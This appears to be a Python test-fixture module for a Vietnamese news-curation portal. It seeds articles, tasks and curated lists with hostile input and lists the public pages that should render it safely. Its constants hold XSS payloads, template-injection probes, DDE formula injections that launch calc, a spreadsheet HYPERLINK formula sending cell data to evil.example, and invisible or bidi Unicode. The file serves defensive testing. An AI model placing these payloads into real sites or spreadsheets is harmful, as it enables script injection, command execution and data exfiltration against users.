"""An edition in which everything that people or pages can write is meant to do harm.

Factories go past the door of imports, which takes out what is no text: it is asked for here.
"""

from typing import Final
from urllib.parse import urlencode

from articles.vietnamese import normalise, on_one_line
from portal.actions import (
    Pick,
    arrange_entries,
    correct_edition,
    submit_list,
    withdraw_edition,
)
from portal.models import Edition, EditionCorrection
from portal.sharing import token_for
from tests.articles.factories import ArticleFactory, PublisherFactory, ThemeFactory
from tests.factories import ManagingEditorFactory
from tests.portal.factories import (
    approved_task,
    cite,
    document,
    draft_list,
    publish,
    published_edition,
)
from tests.portal.pictures import illustrated

RUN: Final = "<script>window.harmed=1</script>"
HANDLER: Final = "\"'><img src=x onerror=window.harmed=1>"
LEAVES: Final = "</title></textarea></script><svg onload=window.harmed=1>"
TEMPLATE: Final = "{{ 7|add:7 }}{% debug %}${7*7}"
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1,"x")'
BIDI: Final = "\u202egnuơg\u202c"
UNSEEN: Final = "\u200b\u200d\ufeff\u2067\u202e \x01\x0b\x1b\x7f\x85\ufffe"
ENTITIES: Final = (
    "&lt;script&gt;window.harmed=1&lt;/script&gt;&#x3C;img src=x onerror=harmed=1&#x3E;"
)
ENDLESS: Final = "ờ" * 5000
LINKS: Final = (
    "[a](javascript:window.harmed=1) [b](data:text/html;base64,PHNjcmlwdD4=) "
    '[c](https://ok.example "x\\" onmouseover=\\"window.harmed=1") ![d](https://evil.example/x.png)'
    "\n\n[e]\n\n[e]: vbscript:x"
)
MARKDOWN: Final = (
    f"{RUN}{HANDLER}\n\n{LINKS}\n\n<iframe src=//evil.example></iframe>\n\n{ENTITIES}{UNSEEN}\n\n"
    f"{ENDLESS}\n\n# {LEAVES}\n\n`{RUN}`\n\n<https://ok.example/{HANDLER}>"
)
TITLE: Final = f"{RUN}{HANDLER}{LEAVES}{TEMPLATE}"
SLUG: Final = "danh-muc-doc-hai"


def hostile_edition() -> Edition:
    article = ArticleFactory(
        title=on_one_line(f"{FORMULA} {TITLE} {ENTITIES}{UNSEEN}"),
        author=on_one_line(f"@SUM(1+1)*cmd|' /C calc'!A0{HANDLER}{UNSEEN}"),
        publisher=PublisherFactory(name=f"+cmd|' /C calc'!A0{HANDLER}", full_text_allowed=True),
        source_url="https://bao.example/?a=%22%3E%3Cscript%3E&b='x'&c=javascript:1",
        body=normalise(
            f"={FORMULA} {TITLE} {BIDI}\n-2+3+cmd|' /C calc'!A0{ENTITIES}{UNSEEN}\n{ENDLESS}"
        ),
    )
    article.themes.add(ThemeFactory(name=f"{HANDLER}"[:60], slug="doc-hai"))
    known = document(
        number=f"05-CT/TW{HANDLER}"[:100], kind="Chỉ thị", issuer=HANDLER, title=f"{TITLE}{FORMULA}"
    )
    cite(article, known)
    cite(article, None, number=f"06{HANDLER}"[:100])
    task = approved_task(
        article,
        wording=normalise(f"-1+1 {TITLE} {ENTITIES}{UNSEEN} {ENDLESS}"),
        responsible=[f"=1+1{HANDLER}"],
        taking_part=[f"@x{LEAVES}"],
        due=f"\r=1+1{HANDLER}",
    )
    made = draft_list(
        Pick(heading=f"=1+1 {LEAVES}{UNSEEN}"),
        Pick(article=article, note=MARKDOWN),
        Pick(heading=f"{HANDLER}{TEMPLATE}"),
        Pick(task=task, note=MARKDOWN),
        title=f"Danh mục độc hại {TITLE}"[:200],
        introduction=MARKDOWN,
    )
    made = illustrated(made, alt=f"{HANDLER}{LEAVES}{UNSEEN}", credit=f"{FORMULA}{LEAVES}"[:200])
    return publish(submit_list(ManagingEditorFactory(), made, expected=made.revision))


def what_becomes_of(edition: Edition) -> dict[str, int]:
    """Correct it, put another in its place, withdraw a third, share a fourth: pages that follow."""
    _correct(edition)
    curated_list = edition.curated_list
    curated_list.refresh_from_db()
    maker, again = ManagingEditorFactory(), Pick(article=ArticleFactory(title=TITLE), note=LINKS)
    arrange_entries(maker, curated_list, [again], expected=curated_list.revision)
    curated_list.refresh_from_db()
    publish(submit_list(maker, curated_list, expected=curated_list.revision))
    withdrawn = published_edition(title=f"Thu hồi {LEAVES}", introduction=MARKDOWN)
    withdraw_edition(maker, withdrawn, reason=f"{TITLE}{ENTITIES}{UNSEEN}{ENDLESS}")
    token, _until = token_for(draft_list(again, title=TITLE[:200], introduction=MARKDOWN))
    at = f"/danh-muc/{edition.slug}/"
    pages = [at, f"{at}an-ban/2/", f"{at}an-ban/2/so-voi/1/", f"/xem-truoc/{token}/"]
    return {**dict.fromkeys(pages, 200), f"/danh-muc/{withdrawn.slug}/": 410}


def _correct(edition: Edition) -> None:
    reason, says = f"{LEAVES}{ENTITIES}{UNSEEN} {ENDLESS}", f"{HANDLER}{TEMPLATE}{UNSEEN}"
    by, entry = ManagingEditorFactory(), edition.entries.get(position=1)
    correct_edition(by, edition, reason=reason, expected=TITLE, says=MARKDOWN)
    for part in (EditionCorrection.Field.TITLE, EditionCorrection.Field.NOTE):
        stood = getattr(entry, part)
        correct_edition(
            by, edition, reason=reason, entry=entry, field=part, expected=stood, says=says
        )


def pages_of(edition: Edition) -> list[str]:
    """Every public page on which something of the edition stands, in both languages."""
    entry = edition.entries.get(position=1)
    [known] = entry.known_documents.all()
    at = f"/danh-muc/{edition.slug}/"
    pages = [
        *("/", "/danh-muc/", at, f"{at}an-ban/{edition.number}/", "/chu-de/", "/chu-de/doc-hai/"),
        *(f"/bai-viet/{entry.article_number}/", "/van-ban/", f"/van-ban/{known.slug}/"),
        *("/tim-kiem/", f"/tim-kiem/?{urlencode({'q': f'{TITLE}'})}", "/tim-kiem/?q=script"),
        f"/tim-kiem/?{urlencode({'q': 'window', 'publisher': entry.publisher})}",
        "/api/v1/",
    ]
    return [*pages, *(f"/en{page}" for page in pages)]
